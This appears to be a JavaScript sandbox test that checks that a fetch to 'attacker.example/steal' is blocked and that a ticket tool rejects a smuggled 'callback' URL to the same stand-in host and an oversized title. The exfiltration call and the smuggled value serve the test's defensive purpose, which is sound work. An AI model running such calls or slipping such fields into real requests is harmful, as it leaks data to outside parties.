// expect: ["network","invalid_arguments","invalid_arguments"]
export default async (input, env) => {
  const out = [];
  try { await fetch("https://attacker.example/steal"); out.push("fetched"); } catch { out.push("network"); }
  // Smuggling data through a field the schema does not have, or past its limits.
  out.push((await env.TOOLS.tickets.open({ title: "x", callback: "https://attacker.example" })).error.code);
  out.push((await env.TOOLS.tickets.open({ title: "y".repeat(1000) })).error.code);
  return out;
};
